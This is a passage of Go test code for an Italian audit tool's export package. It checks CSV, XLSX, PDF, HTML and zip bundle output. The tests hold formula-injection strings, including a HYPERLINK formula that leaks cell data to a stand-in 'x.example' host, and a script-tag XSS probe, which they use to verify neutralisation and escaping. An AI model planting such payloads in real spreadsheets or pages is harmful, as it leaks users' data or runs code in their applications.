package export

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/aymanbagabas/go-udiff"
	"github.com/xuri/excelize/v2"

	"github.com/cieaudit/cieaudit/checklist"
	"github.com/cieaudit/cieaudit/internal/golden"
)

// goldenDir holds the expected exports of the fixture audit.
const goldenDir = "../testdata/export/golden"

// requireGolden compares got with goldenDir/name (internal/golden).
func requireGolden(t *testing.T, name string, got []byte) {
	t.Helper()
	golden.Assert(t, filepath.Join(goldenDir, name), got)
}

func TestGoldenExports(t *testing.T) {
	snap := fixtureSnapshot()
	assessment := checklist.Assess(snap)
	for _, table := range Tables {
		t.Run(table.FileName(), func(t *testing.T) {
			var buf bytes.Buffer
			if err := WriteCSV(&buf, table, snap, assessment, DialectExcel); err != nil {
				t.Fatal(err)
			}
			requireGolden(t, table.FileName(), buf.Bytes())
		})
	}
	t.Run(FileJSON, func(t *testing.T) {
		var buf bytes.Buffer
		if err := WriteJSON(&buf, snap, assessment); err != nil {
			t.Fatal(err)
		}
		requireGolden(t, FileJSON, buf.Bytes())
	})
}

// readCSV parses an export back, checking the dialect on the way.
func readCSV(t *testing.T, data []byte, d Dialect) [][]string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(data))
	switch d {
	case DialectExcel:
		if !bytes.HasPrefix(data, []byte(utf8BOM)) {
			t.Fatal("excel dialect: missing UTF-8 BOM")
		}
		r = csv.NewReader(bytes.NewReader(data[len(utf8BOM):]))
		r.Comma = ';'
	case DialectRFC4180:
		if bytes.HasPrefix(data, []byte(utf8BOM)) {
			t.Fatal("rfc4180 dialect: unexpected BOM")
		}
	}
	records, err := r.ReadAll()
	if err != nil {
		t.Fatalf("parsing %s CSV: %v", d, err)
	}
	return records
}

func TestCSVDialects(t *testing.T) {
	snap := fixtureSnapshot()
	assessment := checklist.Assess(snap)
	wantRows := map[Table]int{
		TableAnswers:      len(snap.Answers),
		TableWorkstations: len(snap.Audit.Postazioni),
		TableRisks:        len(assessment.Risks),
		TableActions:      len(assessment.Actions),
		TableHistory:      len(snap.History),
		TableEvents:       len(snap.Events),
		TableOperators:    len(snap.Operators),
		TableVariations:   len(checklist.Variations(snap)),
	}
	if wantRows[TableVariations] != 2 {
		t.Fatalf("the fixture has %d variations, want the 2 answers after its transmission", wantRows[TableVariations])
	}
	for _, d := range []Dialect{DialectExcel, DialectRFC4180} {
		for _, table := range Tables {
			t.Run(string(d)+"/"+string(table), func(t *testing.T) {
				var buf bytes.Buffer
				if err := WriteCSV(&buf, table, snap, assessment, d); err != nil {
					t.Fatal(err)
				}
				records := readCSV(t, buf.Bytes(), d)
				// Italian headers for people, machine names for programs.
				wantHeader := map[Dialect][]string{DialectExcel: table.Headers(), DialectRFC4180: table.ColumnNames()}[d]
				if !slices.Equal(records[0], wantHeader) || records[0][0] != map[Dialect]string{DialectExcel: "ID audit", DialectRFC4180: "audit_id"}[d] {
					t.Fatalf("header %v, want %v", records[0], wantHeader)
				}
				if got := len(records) - 1; got != wantRows[table] {
					t.Fatalf("%d rows, want %d", got, wantRows[table])
				}
				for i, rec := range records[1:] {
					if rec[0] != snap.Audit.ID {
						t.Errorf("row %d: audit_id %q", i+1, rec[0])
					}
					for j, col := range table.Columns() {
						v := rec[j]
						switch {
						case v == "":
						case col.Numeric && d == DialectExcel && strings.Contains(v, "."),
							col.Numeric && d == DialectRFC4180 && strings.Contains(v, ","):
							t.Errorf("row %d %s = %q: wrong decimal separator for %s", i+1, col.Name, v, d)
						case col.Date && d == DialectExcel && !regexp.MustCompile(`^\d\d/\d\d/\d{4}( \d\d:\d\d:\d\d)?$`).MatchString(v),
							col.Date && d == DialectRFC4180 && !regexp.MustCompile(`^\d{4}-\d\d-\d\d`).MatchString(v):
							t.Errorf("row %d %s = %q: not a %s date", i+1, col.Name, v, d)
						}
					}
				}
				firstLine, _, _ := strings.Cut(strings.TrimPrefix(buf.String(), utf8BOM), "\n")
				sep := map[Dialect]string{DialectExcel: ";", DialectRFC4180: ","}[d]
				if strings.Count(firstLine, sep) != len(table.Columns())-1 {
					t.Errorf("header line %q not separated by %q", firstLine, sep)
				}
			})
		}
	}
}

func TestParseDialectAndTable(t *testing.T) {
	for _, tt := range []struct {
		in   string
		want Dialect
		ok   bool
	}{{"", DialectExcel, true}, {"excel", DialectExcel, true}, {"rfc4180", DialectRFC4180, true}, {"tsv", "", false}} {
		got, err := ParseDialect(tt.in)
		if got != tt.want || (err == nil) != tt.ok {
			t.Errorf("ParseDialect(%q) = %q, %v", tt.in, got, err)
		}
	}
	for _, tt := range []struct {
		in   string
		want Table
		ok   bool
	}{{"risposte", TableAnswers, true}, {"storico.csv", TableHistory, true}, {"answers", "", false}} {
		got, err := ParseTable(tt.in)
		if got != tt.want || (err == nil) != tt.ok {
			t.Errorf("ParseTable(%q) = %q, %v", tt.in, got, err)
		}
	}
}

func TestSafeCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"testo normale", "testo normale"},
		{"=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"},
		{"+1", "'+1"},
		{"-2", "'-2"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\tTAB", "'\tTAB"},
		{"\rCR", "'\rCR"},
		{"\x00NUL", "'\x00NUL"},
		{"a=b", "a=b"},
		{"Perché", "Perché"},
		{"'già protetto", "'già protetto"},
		{" =1+1", "' =1+1"},
		{`"=1+1"`, `'"=1+1"`},
		{"a - b, c", "a - b, c"},
		// Every piece a reader could split off with , ; tab or a line end.
		{"x;=HYPERLINK(1);", "x;'=HYPERLINK(1);"},
		{"x,=3+4,", "x,'=3+4,"},
		{"uno, -due", "uno,' -due"},
		{"a\t=1", "a\t'=1"},
		{"a\n@b\r\n+c", "a\n'@b\r\n'+c"},
		{"a;\tb", "a;'\tb"},
		{`a;"=1"`, `a;'"=1"`},
	}
	for _, tt := range tests {
		if got := SafeCell(tt.in); got != tt.want {
			t.Errorf("SafeCell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// dangerous reports whether a spreadsheet would evaluate the cell.
func dangerous(s string) bool {
	return s != "" && strings.ContainsRune("=+-@\t\r\x00", rune(s[0]))
}

// checkPayloads checks that cells carry each fixture payload, with the
// apostrophe when neutralise is set, and that none would be evaluated.
func checkPayloads(t *testing.T, where string, cells []string, neutralise bool) {
	t.Helper()
	for _, p := range injectionPayloads {
		want := p
		if neutralise {
			want = "'" + p
		}
		if !slices.Contains(cells, want) {
			t.Errorf("%s: payload %q not found as %q", where, p, want)
		}
	}
	for _, c := range cells {
		if dangerous(c) {
			t.Errorf("%s: cell %q would be evaluated as a formula", where, c)
		}
	}
}

func TestInjectionNeutralised(t *testing.T) {
	snap := fixtureSnapshot()
	assessment := checklist.Assess(snap)

	var csvCells []string
	for _, table := range []Table{TableAnswers, TableHistory, TableWorkstations, TableActions} {
		var buf bytes.Buffer
		if err := WriteCSV(&buf, table, snap, assessment, DialectRFC4180); err != nil {
			t.Fatal(err)
		}
		for _, rec := range readCSV(t, buf.Bytes(), DialectRFC4180) {
			csvCells = append(csvCells, rec...)
		}
	}
	checkPayloads(t, "CSV", csvCells, true)

	var buf bytes.Buffer
	if err := WriteXLSX(&buf, snap, assessment); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var xlsxCells []string
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range rows {
			xlsxCells = append(xlsxCells, r...)
		}
	}
	// XLSX text cells are typed strings: shown as typed, never evaluated
	// (TestXLSXWorkbook checks there is no formula).
	for _, p := range injectionPayloads {
		if !slices.Contains(xlsxCells, p) {
			t.Errorf("XLSX: payload %q not found as it was typed", p)
		}
	}
}

func TestXLSXWorkbook(t *testing.T) {
	snap := fixtureSnapshot()
	assessment := checklist.Assess(snap)
	var buf bytes.Buffer
	if err := WriteXLSX(&buf, snap, assessment); err != nil {
		t.Fatal(err)
	}
	// excelize iterates maps when saving: several runs must still agree.
	for range 5 {
		var again bytes.Buffer
		if err := WriteXLSX(&again, snap, assessment); err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(again.Bytes(), buf.Bytes()) {
			t.Fatal("two workbooks of the same audit differ")
		}
	}
	f, err := excelize.OpenReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var wantSheets []string
	for _, table := range Tables {
		wantSheets = append(wantSheets, table.SheetName())
	}
	if got := f.GetSheetList(); !slices.Equal(got, wantSheets) {
		t.Fatalf("sheets %v, want %v", got, wantSheets)
	}
	for _, table := range Tables {
		t.Run(table.SheetName(), func(t *testing.T) {
			// The cells are the table's values as they are, without the
			// CSV's apostrophes.
			want := [][]string{table.Headers()}
			if err := writeRows(table, snap, assessment, func(row []string) error {
				want = append(want, slices.Clone(row))
				return nil
			}); err != nil {
				t.Fatal(err)
			}
			rows, err := f.GetRows(table.SheetName())
			if err != nil {
				t.Fatal(err)
			}
			if len(rows) != len(want) {
				t.Fatalf("%d rows, want %d as in the CSV", len(rows), len(want))
			}
			if !slices.Equal(rows[0], table.Headers()) {
				t.Fatalf("header %v", rows[0])
			}
			for r := range rows {
				for c := range table.Columns() {
					cellName, _ := excelize.CoordinatesToCellName(c+1, r+1)
					formula, err := f.GetCellFormula(table.SheetName(), cellName)
					if err != nil || formula != "" {
						t.Fatalf("%s: formula %q (%v): cells must be values", cellName, formula, err)
					}
					got := ""
					if c < len(rows[r]) {
						got = rows[r][c]
					}
					if col := table.Columns()[c]; r > 0 && col.Date && want[r][c] != "" {
						// A date cell: a number shown as the Italian date.
						if typ, _ := f.GetCellType(table.SheetName(), cellName); typ == excelize.CellTypeSharedString || typ == excelize.CellTypeInlineString {
							t.Errorf("%s: date %q stored as text", cellName, want[r][c])
						}
						tm, clock, ok := sheetTime(want[r][c])
						layout := "02/01/2006"
						if clock {
							layout += " 15:04"
						}
						if !ok || got != tm.Format(layout) {
							t.Errorf("%s = %q, the table has %q", cellName, got, want[r][c])
						}
						continue
					}
					cell := want[r][c]
					if r > 0 {
						cell = table.Columns()[c].People(cell) // the label people read
					}
					if got != cell {
						t.Errorf("%s = %q, the table has %q (%q)", cellName, got, want[r][c], cell)
					}
				}
			}
			layout, err := f.GetPageLayout(table.SheetName())
			if err != nil || layout.Orientation == nil || *layout.Orientation != "landscape" || layout.FitToWidth == nil || *layout.FitToWidth != 1 || layout.FitToHeight == nil || *layout.FitToHeight != 0 {
				t.Errorf("page layout %+v (%v): want landscape, one page wide", layout, err)
			}
			titles := false
			for _, dn := range f.GetDefinedName() {
				titles = titles || dn.Name == "_xlnm.Print_Titles" && dn.Scope == table.SheetName() && strings.HasSuffix(dn.RefersTo, "!$1:$1")
			}
			if !titles {
				t.Errorf("no repeated header row when printed: %+v", f.GetDefinedName())
			}
			panes, err := f.GetPanes(table.SheetName())
			if err != nil || !panes.Freeze || panes.YSplit != 1 {
				t.Errorf("panes %+v (%v): want the header row frozen", panes, err)
			}
		})
	}
	props, err := f.GetDocProps()
	if err != nil {
		t.Fatal(err)
	}
	want := snap.LastChange().UTC().Format("2006-01-02T15:04:05Z")
	if props.Created != want || props.Modified != want {
		t.Errorf("doc props created %q modified %q, want %q", props.Created, props.Modified, want)
	}
}

// pdfText renders the snapshot as PDF and returns its text, one string
// per page with whitespace collapsed (pdftotext wraps long lines).
func pdfPages(t *testing.T, snap *checklist.Snapshot) []string {
	t.Helper()
	if _, err := exec.LookPath("pdftotext"); err != nil {
		t.Skip("pdftotext not installed (apt-get install poppler-utils): PDF text not checked")
	}
	path := filepath.Join(t.TempDir(), FilePDF)
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	if err := WritePDF(f, snap, nil); err != nil {
		t.Fatal(err)
	}
	f.Close()
	out, err := exec.Command("pdftotext", "-enc", "UTF-8", path, "-").Output()
	if err != nil {
		t.Fatalf("pdftotext: %v", err)
	}
	pages := strings.Split(strings.TrimSuffix(string(out), "\f"), "\f")
	for i, p := range pages {
		pages[i] = strings.Join(strings.Fields(p), " ")
	}
	return pages
}

func TestPDFText(t *testing.T) {
	snap := fixtureSnapshot()
	pages := pdfPages(t, snap)
	text := strings.Join(pages, " ")
	for i, p := range pages {
		for _, w := range []string{snap.Audit.Ente.Name, DocumentTitle, Confidential, fmt.Sprintf("Pagina %d di %d", i+1, len(pages))} {
			if !strings.Contains(p, w) {
				t.Errorf("page %d lacks %q in its header or footer", i+1, w)
			}
		}
	}
	want := []string{
		snap.Audit.Ente.Name, DocumentTitle, Confidential, "Pagina 1 di", "Maria Luisa Però",
		"Quadro normativo e metodo", "Organizzazione e responsabilità", "Perimetro", "Esito", "Stato attuale",
		"Analisi dei rischi", "Matrice probabilità × impatto", "Azioni migliorative", "Registro delle modifiche", "Validazione e invio", "Adozione e firme", "Invio alla Prefettura",
		"Valutazione", "buona pratica", "Il Sindaco", "Il responsabile della sicurezza", "Perché?", "Delegazione Faggiano",
		"Lenovo ThinkCentre M720q — s/n PC0ABC12", "L'organizzazione è definita; manca il registro degli incidenti.",
		"@SUM(A1) — postazione di back office da rivedere.", "Rischio n. 1", "Critico",
		// The yearly cycle: operators, monitoring, transmission.
		"Operatori e smart card operatore (SCO)", "Lucia D'Angelo", "SCO-0001", "SCO assegnata a un delegato senza atto di delega",
		"Monitoraggio: eventi di sicurezza e variazioni", "ev-1", "Password cambiate.", "oltre le 72 ore",
		"V3", "esito di una misura", "Validazione e invio", "versione beta", "09/03/2026, PEC", "PEC 2026/118",
		"Termine di verifica (30 giorni)", "08/04/2026",
	}
	for _, it := range snap.Catalogue.Items() {
		want = append(want, it.ID)
	}
	for _, w := range want {
		if !strings.Contains(text, w) {
			t.Errorf("PDF text lacks %q", w)
		}
	}
}

// A note longer than a page must break across pages, whole.
func TestPDFLongNote(t *testing.T) {
	snap := fixtureSnapshot()
	var note strings.Builder
	for i := range 150 {
		fmt.Fprintf(&note, "Riga %03d della nota lunghissima, con accenti: è à ù.\n", i)
	}
	note.WriteString("FINE-DELLA-NOTA " + strings.Repeat("parolasenzaspazi", 30))
	// Characters DejaVu Sans lacks and control characters must not break
	// the document.
	snap.Answers[2].Note = "emoji 😀, 漢字, עברית, \x01\x7f\u2028 fine"
	snap.Answers[3].Note = "UTF-8 non valido: \xe2\x82"
	snap.Audit.Auditors = append(snap.Audit.Auditors, "Auditor 🙂 \xff")
	snap.Answers[1].Note = note.String()
	text := strings.Join(pdfPages(t, snap), " ")
	for _, w := range []string{"Riga 000", "Riga 075", "Riga 149", "FINE-DELLA-NOTA", "emoji", "fine", "UTF-8 non valido"} {
		if !strings.Contains(text, w) {
			t.Errorf("PDF lost %q of the long note", w)
		}
	}
}

func TestHTMLEscapesUserText(t *testing.T) {
	snap := fixtureSnapshot()
	snap.Evaluations = append(snap.Evaluations, checklist.Evaluation{
		Scope: checklist.EnteScope, Section: "FIS", Text: `<script>alert("x")</script>`,
	})
	snap.Audit.Ente.Name = `Comune di <b>Prova</b> & "Figli"`
	var buf bytes.Buffer
	if err := WriteHTML(&buf, snap, nil); err != nil {
		t.Fatal(err)
	}
	html := buf.String()
	for _, bad := range []string{"<script>", "<b>Prova</b>", "ZgotmplZ"} {
		if strings.Contains(html, bad) {
			t.Errorf("HTML contains unescaped %q", bad)
		}
	}
	for _, want := range []string{"Comune di &lt;b&gt;Prova&lt;/b&gt;", "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;", "=HYPERLINK(&#34;http://x.example/?leak=&#34;&amp;A1", "Documento riservato",
		"Analisi dei rischi", "@page", "Pagina", "buona pratica", "Perché?", `style="background-color: #c62828"`} {
		if !strings.Contains(html, want) {
			t.Errorf("HTML lacks %q", want)
		}
	}
	for _, it := range snap.Catalogue.Items() {
		if !strings.Contains(html, ">"+it.ID+"<") {
			t.Errorf("HTML lacks item %s", it.ID)
		}
	}
}

func TestBundleIsDeterministic(t *testing.T) {
	dir := t.TempDir()
	var sums [2][]byte
	for i := range sums {
		out := filepath.Join(dir, fmt.Sprintf("run%d", i))
		paths, err := Bundle(fixtureSnapshot(), nil, out, Options{})
		if err != nil {
			t.Fatal(err)
		}
		wantNames := []string{FilePDF, FileHTML, FileODT, "risposte.csv", "postazioni.csv", "rischi.csv", "azioni.csv", "storico.csv", "eventi.csv", "operatori.csv", "variazioni.csv", "confronto.csv", FileXLSX, FileJSON, "catalogo/cie-postazioni@2026.1.yaml", FileSums}
		var names []string
		for _, p := range paths {
			rel, _ := filepath.Rel(out, p)
			names = append(names, filepath.ToSlash(rel))
		}
		if !slices.Equal(names, wantNames) {
			t.Fatalf("bundle files %v, want %v", names, wantNames)
		}
		sums[i], err = os.ReadFile(filepath.Join(out, FileSums))
		if err != nil {
			t.Fatal(err)
		}
		if n := strings.Count(string(sums[i]), "\n"); n != len(wantNames)-1 {
			t.Fatalf("SHA256SUMS has %d lines, want %d", n, len(wantNames)-1)
		}
		if _, err := exec.LookPath("sha256sum"); err == nil {
			cmd := exec.Command("sha256sum", "--strict", "-c", FileSums)
			cmd.Dir = out
			if msg, err := cmd.CombinedOutput(); err != nil {
				t.Fatalf("sha256sum -c: %v\n%s", err, msg)
			}
		}
	}
	if !bytes.Equal(sums[0], sums[1]) {
		t.Fatalf("two exports of the same audit differ:\n%s\n%s", sums[0], sums[1])
	}
	lines := strings.Split(strings.TrimSpace(string(sums[0])), "\n")
	if !slices.IsSortedFunc(lines, func(a, b string) int { return strings.Compare(a[66:], b[66:]) }) {
		t.Errorf("SHA256SUMS not sorted by name:\n%s", sums[0])
	}
}

func TestBundleZip(t *testing.T) {
	dir := t.TempDir()
	var archives [2][]byte
	for i, dest := range []string{filepath.Join(dir, "uno"), filepath.Join(dir, "due.zip")} {
		paths, err := Bundle(fixtureSnapshot(), nil, dest, Options{Zip: true})
		if err != nil {
			t.Fatal(err)
		}
		want := dest
		if !strings.HasSuffix(dest, ".zip") {
			want += ".zip"
		}
		if len(paths) != 1 || paths[0] != want {
			t.Fatalf("paths %v, want [%s]", paths, want)
		}
		archives[i], err = os.ReadFile(want)
		if err != nil {
			t.Fatal(err)
		}
	}
	if !bytes.Equal(archives[0], archives[1]) {
		t.Error("two zip exports of the same audit differ")
	}
	entries, _ := os.ReadDir(dir)
	if len(entries) != 2 {
		t.Errorf("export left extra files: %v", entries)
	}
	zr, err := zipReader(archives[0])
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, f := range zr.File {
		names = append(names, f.Name)
		if !f.Modified.Equal(fixtureSnapshot().LastChange()) {
			t.Errorf("%s: modified %v, want the audit's last change", f.Name, f.Modified)
		}
	}
	if !slices.Contains(names, FileSums) || !slices.Contains(names, FilePDF) || len(names) != 16 {
		t.Errorf("zip entries %v", names)
	}
	// Without --force an existing archive is kept.
	if _, err := Bundle(fixtureSnapshot(), nil, filepath.Join(dir, "due.zip"), Options{Zip: true}); !errors.Is(err, ErrExists) {
		t.Errorf("existing zip: err %v, want ErrExists", err)
	}
}

// tree lists every path under dir, relative to it.
func tree(t *testing.T, dir string) []string {
	t.Helper()
	var out []string
	err := filepath.WalkDir(dir, func(p string, d os.DirEntry, err error) error {
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(dir, p)
		out = append(out, rel)
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func TestBundleDestinationSafety(t *testing.T) {
	root := t.TempDir()
	existing := filepath.Join(root, "esistente")
	if err := os.MkdirAll(existing, 0o750); err != nil {
		t.Fatal(err)
	}
	keep := filepath.Join(existing, "da-non-perdere.txt")
	os.WriteFile(keep, []byte("dati"), 0o600)
	aFile := filepath.Join(root, "file.txt")
	os.WriteFile(aFile, []byte("x"), 0o600)
	before := tree(t, root)

	tests := []struct {
		name string
		dest string
		opts Options
		want error
	}{
		{"non-empty folder", existing, Options{}, ErrExists},
		{"file in the way", aFile, Options{Force: true}, nil},
		{"no destination", "  ", Options{}, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := Bundle(fixtureSnapshot(), nil, tt.dest, tt.opts)
			if err == nil || (tt.want != nil && !errors.Is(err, tt.want)) {
				t.Fatalf("err = %v, want a refusal (%v)", err, tt.want)
			}
			if !slices.Equal(tree(t, root), before) {
				t.Fatalf("a refused export changed the disk: %v, was %v", tree(t, root), before)
			}
		})
	}

	t.Run("failure leaves nothing", func(t *testing.T) {
		snap := fixtureSnapshot()
		snap.Catalogue = nil
		if _, err := Bundle(snap, nil, filepath.Join(root, "nuovo"), Options{}); err == nil {
			t.Fatal("export without catalogue succeeded")
		}
		if !slices.Equal(tree(t, root), before) {
			t.Fatalf("a failed export left files: %v", tree(t, root))
		}
	})

	t.Run("force replaces", func(t *testing.T) {
		paths, err := Bundle(fixtureSnapshot(), nil, existing, Options{Force: true})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := os.Stat(keep); !errors.Is(err, os.ErrNotExist) {
			t.Errorf("old content survived --force: %v", err)
		}
		for _, p := range paths {
			if !strings.HasPrefix(p, existing+string(filepath.Separator)) {
				t.Errorf("file written outside the destination: %s", p)
			}
		}
		got := tree(t, root)
		want := []string{".", "esistente", "esistente/" + DirCatalogue, "file.txt"}
		for _, p := range paths {
			rel, _ := filepath.Rel(root, p)
			want = append(want, rel)
		}
		slices.Sort(got)
		slices.Sort(want)
		if !slices.Equal(got, want) {
			t.Errorf("disk after export %v, want %v (no temporary leftovers)", got, want)
		}
	})

	t.Run("empty folder is used", func(t *testing.T) {
		empty := filepath.Join(root, "vuota")
		os.Mkdir(empty, 0o750)
		if _, err := Bundle(fixtureSnapshot(), nil, empty+"/./", Options{}); err != nil {
			t.Fatal(err)
		}
		if _, err := os.Stat(filepath.Join(empty, FileSums)); err != nil {
			t.Fatal(err)
		}
	})
}

func TestBundleProgress(t *testing.T) {
	var calls []string
	_, err := Bundle(fixtureSnapshot(), nil, filepath.Join(t.TempDir(), "out"), Options{
		Progress: func(done, total int, file string) {
			calls = append(calls, fmt.Sprintf("%d/%d %s", done, total, file))
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(calls) != 15 || calls[0] != "1/15 "+FilePDF || calls[14] != "15/15 "+FileSums {
		t.Errorf("progress calls %v", calls)
	}
}

// eachOf yields the given snapshots as storage.Store.EachAudit would.
func eachOf(snaps ...*checklist.Snapshot) EachFunc {
	return func(fn func(*checklist.Snapshot) error) error {
		for _, s := range snaps {
			if err := fn(s); err != nil {
				return err
			}
		}
		return nil
	}
}

func TestBatchTables(t *testing.T) {
	a, b := fixtureSnapshot(), fixtureSnapshot()
	b.Audit.ID = "aud-2026-0002"
	b.Answers = b.Answers[:5]
	writers := map[Table]io.Writer{}
	bufs := map[Table]*bytes.Buffer{}
	for _, table := range Tables {
		bufs[table] = new(bytes.Buffer)
		writers[table] = bufs[table]
	}
	var progress []int
	if err := WriteBatchTables(writers, eachOf(a, b), DialectExcel, func(n int) { progress = append(progress, n) }); err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(progress, []int{1, 2}) {
		t.Errorf("progress %v", progress)
	}
	for _, table := range Tables {
		var single bytes.Buffer
		for _, s := range []*checklist.Snapshot{a, b} {
			if err := WriteCSV(&single, table, s, nil, DialectExcel); err != nil {
				t.Fatal(err)
			}
		}
		// The batch file is the single files concatenated, with one BOM and
		// one header.
		header := utf8BOM + strings.Join(table.Headers(), ";") + "\n"
		want := header + strings.ReplaceAll(single.String(), header, "")
		if bufs[table].String() != want {
			t.Errorf("%s: batch differs from the single exports:\n%s", table, udiff.Unified("single", "batch", want, bufs[table].String()))
		}
	}
	ids := map[string]int{}
	for _, rec := range readCSV(t, bufs[TableAnswers].Bytes(), DialectExcel)[1:] {
		ids[rec[0]]++
	}
	if ids[a.Audit.ID] != len(a.Answers) || ids[b.Audit.ID] != 5 {
		t.Errorf("answers per audit %v", ids)
	}

	stop := errors.New("database chiuso")
	failing := func(fn func(*checklist.Snapshot) error) error { return stop }
	if err := WriteBatchCSV(io.Discard, TableAnswers, failing, DialectExcel, nil); !errors.Is(err, stop) {
		t.Errorf("error from each: %v", err)
	}
}

func TestJSONDocument(t *testing.T) {
	snap := fixtureSnapshot()
	var buf bytes.Buffer
	if err := WriteJSON(&buf, snap, nil); err != nil {
		t.Fatal(err)
	}
	var doc struct {
		Schema      string          `json:"schema"`
		GeneratedAt string          `json:"generated_at"`
		Audit       checklist.Audit `json:"audit"`
		Catalogue   struct{ ID, Digest string }
		Answers     []checklist.Answer       `json:"answers"`
		Evaluations []checklist.Evaluation   `json:"evaluations"`
		History     []checklist.Change       `json:"history"`
		ActionPlans []checklist.ActionPlan   `json:"action_plans"`
		Overrides   []checklist.RiskOverride `json:"overrides"`
		Risk        struct {
			Risks []struct{ Scope, Threat string } `json:"risks"`
		} `json:"risk"`
	}
	if err := json.Unmarshal(buf.Bytes(), &doc); err != nil {
		t.Fatal(err)
	}
	if doc.Schema != SchemaJSON || doc.GeneratedAt != "2026-03-09T11:50:00Z" {
		t.Errorf("schema %q generated_at %q", doc.Schema, doc.GeneratedAt)
	}
	// Lossless: what went in comes back.
	if len(doc.Answers) != len(snap.Answers) || len(doc.History) != len(snap.History) || len(doc.Evaluations) != len(snap.Evaluations) ||
		len(doc.ActionPlans) != len(snap.Actions) || len(doc.Overrides) != len(snap.Overrides) {
		t.Fatalf("counts differ: %d answers, %d history, %d evaluations, %d plans, %d overrides",
			len(doc.Answers), len(doc.History), len(doc.Evaluations), len(doc.ActionPlans), len(doc.Overrides))
	}
	for _, a := range snap.Answers {
		i := slices.IndexFunc(doc.Answers, func(b checklist.Answer) bool { return b.Scope == a.Scope && b.Item == a.Item })
		if i < 0 || doc.Answers[i].Note != a.Note || doc.Answers[i].Value != a.Value || !doc.Answers[i].At.Equal(a.At) || doc.Answers[i].Rev != a.Rev {
			t.Errorf("answer %s/%s not preserved", a.Scope, a.Item)
		}
	}
	if doc.Audit.Postazioni[0].Hardware != snap.Audit.Postazioni[0].Hardware || doc.Audit.Ente != snap.Audit.Ente {
		t.Error("ente or inventory not preserved")
	}
	if doc.Catalogue.Digest != snap.Catalogue.Digest || len(doc.Risk.Risks) == 0 || len(doc.Risk.Risks) != len(checklist.Assess(snap).Risks) {
		t.Errorf("catalogue %+v, %d risks", doc.Catalogue, len(doc.Risk.Risks))
	}
}

func zipReader(data []byte) (*zip.Reader, error) {
	return zip.NewReader(bytes.NewReader(data), int64(len(data)))
}

// The column reference in docs/export.md must follow the code.
func TestDocsListEveryColumn(t *testing.T) {
	doc, err := os.ReadFile("../docs/export.md")
	if err != nil {
		t.Fatal(err)
	}
	for _, table := range append(slices.Clone(Tables), TableMeasures) {
		section := "### `" + table.FileName() + "`"
		start := bytes.Index(doc, []byte(section))
		if start < 0 {
			t.Errorf("docs/export.md has no section %s", section)
			continue
		}
		body := doc[start+len(section):]
		if end := bytes.Index(body, []byte("\n#")); end >= 0 {
			body = body[:end]
		}
		for _, c := range table.Columns() {
			if !bytes.Contains(body, []byte("| `"+c.Name+"` |")) {
				t.Errorf("docs/export.md: %s does not document column %s", table.FileName(), c.Name)
			}
		}
	}
}

func TestWriteTablesDir(t *testing.T) {
	root := t.TempDir()
	dest := filepath.Join(root, "tabelle")
	paths, err := WriteTablesDir(eachOf(fixtureSnapshot()), dest, Options{CSV: DialectRFC4180}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(paths) != len(Tables)+1 || filepath.Base(paths[len(paths)-1]) != FileSums {
		t.Fatalf("paths %v", paths)
	}
	// Same bytes as the single-audit writer.
	for _, table := range Tables {
		var want bytes.Buffer
		if err := WriteCSV(&want, table, fixtureSnapshot(), nil, DialectRFC4180); err != nil {
			t.Fatal(err)
		}
		got, _ := os.ReadFile(filepath.Join(dest, table.FileName()))
		if !bytes.Equal(got, want.Bytes()) {
			t.Errorf("%s differs from WriteCSV", table.FileName())
		}
	}
	if _, err := exec.LookPath("sha256sum"); err == nil {
		cmd := exec.Command("sha256sum", "--strict", "-c", FileSums)
		cmd.Dir = dest
		if msg, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("sha256sum -c: %v\n%s", err, msg)
		}
	}
	if _, err := WriteTablesDir(eachOf(fixtureSnapshot()), dest, Options{}, nil); !errors.Is(err, ErrExists) {
		t.Errorf("second export into the same folder: %v, want ErrExists", err)
	}

	// A database error midway leaves nothing behind.
	broken := errors.New("pagina corrotta")
	failing := func(fn func(*checklist.Snapshot) error) error {
		if err := fn(fixtureSnapshot()); err != nil {
			return err
		}
		return broken
	}
	before := tree(t, root)
	if _, err := WriteTablesDir(failing, filepath.Join(root, "rotto"), Options{}, nil); !errors.Is(err, broken) {
		t.Fatalf("err %v, want the database error", err)
	}
	if got := tree(t, root); !slices.Equal(got, before) {
		t.Errorf("failed batch left %v, was %v", got, before)
	}
}

// Text no XML document may hold (control characters, invalid UTF-8) must
// not make the workbook unreadable.
func TestXLSXIsWellFormedWithOddText(t *testing.T) {
	snap := fixtureSnapshot()
	snap.Answers[0].Note = "controllo \x01\x02, UTF-8 non valido \xe2\x82, emoji 😀"
	snap.Audit.Postazioni[0].Notes = "\x00NUL iniziale"
	var buf bytes.Buffer
	if err := WriteXLSX(&buf, snap, nil); err != nil {
		t.Fatal(err)
	}
	zr, err := zipReader(buf.Bytes())
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range zr.File {
		if !strings.HasSuffix(f.Name, ".xml") && !strings.HasSuffix(f.Name, ".rels") {
			continue
		}
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
